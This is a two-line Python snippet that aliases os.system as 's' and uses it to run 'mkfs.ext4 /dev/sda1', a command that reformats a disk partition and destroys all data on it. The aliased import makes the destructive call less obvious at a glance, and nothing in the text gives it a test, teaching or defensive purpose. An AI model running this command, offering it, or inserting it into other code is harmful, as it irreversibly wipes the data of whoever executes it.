from os import system as s
s("mkfs.ext4 /dev/sda1")
